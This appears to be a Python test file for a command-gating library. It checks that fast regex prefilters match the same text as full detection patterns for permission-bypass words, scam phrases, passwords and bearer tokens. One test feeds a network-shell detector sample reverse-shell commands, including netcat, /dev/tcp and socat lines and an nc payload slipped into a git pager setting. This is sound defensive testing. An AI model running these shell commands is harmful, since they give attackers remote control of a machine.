"""The prefilters of the cold path answer as the searches they skip."""

import re

import pytest

from gate.prefix import Guarded

_PATTERNS = [
    r"bypasspermissions|\bbash\(\s*\*|\byolo\b|\"(?:bash|\*)\"\s*\]",
    r"(?<![^\W_])(?:gift[\W_]+cards?|wire[\W_]+transfer)(?![^\W_])",
    r"\bpass(?:word|wd)?\b|kennwort|密码",
    r"^\s*\d+$",  # nothing literal: always searched
]
_TEXTS = ["", "git status", "YOLO mode on", "Bash( *)", '["bash"]', "buy a Gift-Card now", "wire  transfers",
          "my PASSWORD is", "kennwort", "密码是", "ſtraße gift cards", "12345", "  7", "byPassPermiſſions"]


@pytest.mark.parametrize("flags", [0, re.IGNORECASE])
@pytest.mark.parametrize("pattern", _PATTERNS)
def test_guarded_search_answers_as_the_regex(pattern: str, flags: int) -> None:
    rx = re.compile(pattern, flags)
    guarded = Guarded(rx)
    for text in _TEXTS:
        want, got = rx.search(text), guarded.search(text)
        assert (want and want.span()) == (got and got.span()), text
    assert guarded.pattern == pattern  # the regex's own attributes


def test_literals_finds_what_any_of_its_strings_finds() -> None:
    from gate.prefix import literals

    strings = ["a.b", "ab", "abc", "b*", "x", "xy(", "日本", "日"]
    rx = literals(strings)
    assert rx is not None and literals([]) is None
    for text in ["", "a", "ab", "zzab", "a.b", "aXb", "b*", "b", "xy(", "日", "本", "q日本", "y("]:
        assert (rx.search(text) is not None) == any(s in text for s in strings), text


def test_literal_sets_find_the_sets_each_search_would_find() -> None:
    from gate.prefix import LiteralSets, literals

    # overlapping strings, strings that begin others (in the same set and across sets), a set with none
    sets = {"net": ["curl", "cur", "nc "], "copy": ["cp ", "curlew"], "none": [], "word": ["rl", "日本"]}
    found = LiteralSets(sets)
    for text in ["", "git status", "curl x", "cur", "curlew | nc host", "scp a b", "url", "日本語", "xcurlx", "nc"]:
        want = {name for name, strings in sets.items() if (rx := literals(strings)) is not None and rx.search(text)}
        assert found.present(text) == want, text
    assert LiteralSets({}).present("anything") == frozenset()


def test_a_branch_with_no_literal_start_is_searched_only_where_its_literal_is() -> None:
    from gate.prefix import BranchSearch, text_keys

    search = BranchSearch([r"(?:^|\b(?:[a-z]+ )?(?:infected|locked))\W+(?:fix|clean) now",
                           r"\b\d+ ?(usd|eur)\b", r"(?i:\bbearer\s+\w{4,})", r"^\w+ toggle"])
    assert not search.always & 1 and not search.always & 2  # indexed by the literals inside them
    for text in ["virus found, fix now", "infected: fix now", "Infected: Fix now", "pay 20 usd", "20eur", "20 EUR",
                 "BEARER abcd1234", "wifi toggle", "nothing here", "ſix now"]:
        want, got = search.whole.search(text), search.search(text, text_keys(text))
        assert (want and want.span()) == (got and got.span()), text


def test_a_command_without_the_network_shell_words_has_no_network_shell_hint() -> None:
    from gate.rules.shell_effects import _NET_SHELL_HINT, _net_shell_words

    for text in ["git config core.pager 'nc 10.0.0.1 4444 -e /bin/sh'", "netcat -c sh host 1", "ncat.exe x -e cmd ",
                 "bash -i >& /dev/tcp/1.2.3.4/80", "socat tcp:h:1 exec:sh", "git status", "rsync -a src/ dst/"]:
        assert not _NET_SHELL_HINT.search(text) or _net_shell_words(text), text
